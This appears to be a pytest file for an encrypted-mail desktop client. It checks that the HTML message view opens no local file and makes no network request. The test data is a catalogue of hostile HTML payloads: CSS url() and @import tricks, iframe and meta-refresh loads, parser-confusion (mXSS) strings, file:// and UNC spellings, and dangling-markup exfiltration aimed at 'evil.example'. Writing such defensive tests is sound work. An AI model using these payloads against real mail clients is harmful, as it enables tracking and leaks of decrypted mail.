"""No file is opened and nobody is called, whatever a message names: watched by inotify and a listener, and tried on a plain text browser first."""

import ctypes
import os
import socket
import struct
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from PySide6.QtWidgets import QApplication, QTextBrowser
from pytestqt.qtbot import QtBot

from securemail_desktop.encryption.opened import Part
from securemail_desktop.gui.html_view import HtmlView
from securemail_desktop.gui.look import Look

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="inotify is Linux's")

OPENED = 0x20  # IN_OPEN of inotify(7)


class Watch:
    """Tells which files of a folder were opened."""

    def __init__(self, folder: Path) -> None:
        libc = ctypes.CDLL(None, use_errno=True)
        self._descriptor = libc.inotify_init1(os.O_NONBLOCK)
        assert libc.inotify_add_watch(self._descriptor, os.fsencode(folder), OPENED) > 0

    def opened(self) -> set[str]:
        try:
            data = os.read(self._descriptor, 65_536)
        except BlockingIOError:
            return set()
        names, position = set(), 0
        while position < len(data):
            length = struct.unpack_from("iIII", data, position)[3]
            names.add(data[position + 16 : position + 16 + length].rstrip(b"\0").decode())
            position += 16 + length
        return names

    def close(self) -> None:
        os.close(self._descriptor)


@pytest.fixture
def bait(tmp_path: Path) -> Path:
    file = tmp_path / "bait.png"
    file.write_bytes(b"\x89PNG\r\n\x1a\n")
    for other in ("bait@2x.png", "bait.css", "bait.svg", "bait.html"):
        (tmp_path / other).write_bytes(b"<svg/>")
    return file


@pytest.fixture
def watch(bait: Path) -> Iterator[Watch]:
    watching = Watch(bait.parent)
    yield watching
    watching.close()


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server


def spellings(file: Path, port: int) -> list[str]:
    path = file.as_posix()
    return [
        f"file://{path}",
        f"file:{path}",
        f"FILE://{path}",
        f"file://localhost{path}",
        f"fi\nle://{path}",
        f"&#102;ile://{path}",
        path,
        file.name,
        f"./{file.name}",
        f"file://{path}?x#y",
        f"qrc:{path}",
        f"image://{path}",
        f"\\\\127.0.0.1:{port}\\x",
        f"//127.0.0.1:{port}/x",
        f"http://127.0.0.1:{port}/x",
        f"http:127.0.0.1:{port}/x",
        f"ftp://127.0.0.1:{port}/x",
    ]


SHAPES = (
    "<img src='{0}'>",
    "<img srcset='{0} 2x' src='{0}' alt='a' width=20 height=20>",
    "<table background='{0}'><tr><td background='{0}' style='background:url({0})'>x",
    r"<p style='background-image:u\72l({0})'>x",
    "<p style=\"list-style-image:url('{0}');border-image:url({0});content:url({0});cursor:url({0})\">x",
    "<style>@import '{0}'; p{{background:url({0})}} @font-face{{font-family:x;src:url({0})}}</style><p style='font-family:x'>x",
    "<link rel=stylesheet href='{0}'><base href='{0}'><img src='bait.png'>",
    "<body background='{0}'>x",
    "<ul style='list-style:url({0})'><li style='list-style:url({0})'>x</ul>",
    "<object data='{0}'></object><embed src='{0}'><iframe src='{0}'></iframe><frame src='{0}'>",
    "<input type=image src='{0}'><video poster='{0}' src='{0}'></video><audio src='{0}'>",
    "<svg><image xlink:href='{0}' href='{0}'/></svg><math href='{0}'>x</math>",
    "<meta http-equiv=refresh content='0;url={0}'><a href='{0}' ping='{0}'>x</a>",
    "<img usemap='#m' src='{0}'><map name=m><area href='{0}'></map>",
    "<!--[if mso]><img src='{0}'><![endif]--><![CDATA[<img src='{0}'>]]>",
    "<img src='image:0'><img src=\"x' src='{0}\"><p title='><img src={0}>'>x",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src='{0}'&gt;\">",
    "<noscript><p title=\"</noscript><img src='{0}'>\">",
    "<textarea><img src='{0}'></textarea><xmp><img src='{0}'></xmp><plaintext><img src='{0}'>",
)


def settle() -> None:
    for _ in range(3):
        QApplication.processEvents()


def test_a_plain_text_browser_opens_the_file_so_the_watch_sees_it(qtbot: QtBot, bait: Path, watch: Watch) -> None:
    browser = QTextBrowser()
    qtbot.addWidget(browser)
    browser.setHtml(f"<img src='file://{bait}'>")
    browser.grab()
    assert bait.name in watch.opened()


def test_no_shape_opens_a_file_or_calls_anybody(qtbot: QtBot, look: Look, bait: Path, watch: Watch, listener: socket.socket) -> None:
    view = HtmlView(look)
    qtbot.addWidget(view)
    view.resize(600, 400)
    view.show()
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:href='file://{bait}'/></svg>"
    parts = (Part("image/svg+xml", "a.svg", svg.encode(), content_id="a"), Part("image/png", "b.png", svg.encode(), content_id="b"))
    port = listener.getsockname()[1]
    for shape in SHAPES:
        html = "".join(shape.format(spelling) for spelling in spellings(bait, port))
        view.show_message((html, "<img src='cid:a'><img src='cid:b'>"), "", parts)
        view.grab()
        view.selectAll()
        view.copy()
        settle()
        assert watch.opened() == set(), shape
    with pytest.raises(BlockingIOError):
        listener.accept()


def test_plain_text_and_a_refused_message_open_nothing(qtbot: QtBot, look: Look, bait: Path, watch: Watch) -> None:
    view = HtmlView(look)
    qtbot.addWidget(view)
    for html, text in (("", f"<img src='file://{bait}'> file://{bait}"), (f"{'<table><tr><td>' * 13}<img src='file://{bait}'>", "")):
        view.show_message(html, text, ())
        view.grab()
        assert watch.opened() == set()


def test_one_part_never_takes_in_another(qtbot: QtBot, look: Look) -> None:
    view = HtmlView(look)
    qtbot.addWidget(view)
    for opened in (
        '<img src="http://evil.example/?',
        "<a href='http://evil.example/?",
        "<style>",
        "<textarea>",
        "<!--",
        "<p title='",
        "<table><tr><td",
    ):
        view.show_message((opened, "the decrypted text", "'\"--></style></textarea>"), "", ())
        assert "the decrypted text" in view.toPlainText()
        assert not any("decrypted" in link.target for link in view.shown.links)
